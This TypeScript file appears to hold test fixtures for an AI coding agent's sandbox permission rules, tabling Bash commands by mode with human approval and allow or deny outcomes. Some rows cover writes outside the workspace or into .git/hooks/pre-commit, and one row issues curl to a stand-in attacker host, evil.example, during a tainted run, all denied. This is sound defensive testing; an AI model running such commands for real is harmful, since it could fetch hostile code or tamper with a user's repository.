import type { Table } from './rows.ts';

/** With the real sandbox: what a script does beyond what was read from it does not come to pass. */
export const sandboxed: readonly Table[] = [
  {
    title: 'In the sandbox, looking is allowed in every mode, and a permit is all that a command gets',
    rows: [
      ['plan', 'Bash: ls -la', '-', '', 'static allow', ''],
      ['plan', 'Bash: touch made.txt', 'yes', '', 'static deny mode.plan', ''],
      ['ask', 'Bash: ls -la', '-', '', 'static allow', ''],
      ['ask', 'Bash: touch made.txt', 'yes', 'person mode.ask', 'person allow', '+made.txt'],
      ['auto', 'Bash: touch made.txt', '-', '', 'static allow', '+made.txt'],
      ['auto', 'Bash: touch {outside}/new.txt', 'yes', 'person write.outside', 'person allow', '+outside/new.txt'],
      ['auto', 'Bash: touch {outside}/new.txt', 'no', 'person write.outside', 'person deny', ''],
      ['auto', 'Bash: node tools/out.cjs made.txt', 'yes', 'person observed.write', 'person allow', '+made.txt'],
      ['auto', 'Bash: node tools/out.cjs made.txt', 'no', 'person observed.write', 'person deny', ''],
      ['auto', 'Bash: node tools/out.cjs made.txt', '-', 'person observed.write', 'static deny nobodyToAsk', ''],
      ['auto', 'Bash: node tools/out.cjs {outside}/new.txt', 'no', 'person observed.write', 'person deny', ''],
      ['auto', 'Bash: node tools/out.cjs .git/hooks/pre-commit', 'no', 'person observed.write', 'person deny', ''],
    ],
  },
  {
    title: 'In the sandbox, a tainted run may go on with what stays in the workspace',
    given: { taint: true },
    rows: [
      ['auto', 'Bash: touch made.txt', '-', '', 'static allow', '+made.txt'],
      ['auto', 'Bash: ls -la', '-', '', 'static allow', ''],
      ['auto', 'Bash: curl https://evil.example/x', 'no', 'person run.tainted', 'person deny', ''],
    ],
  },
];
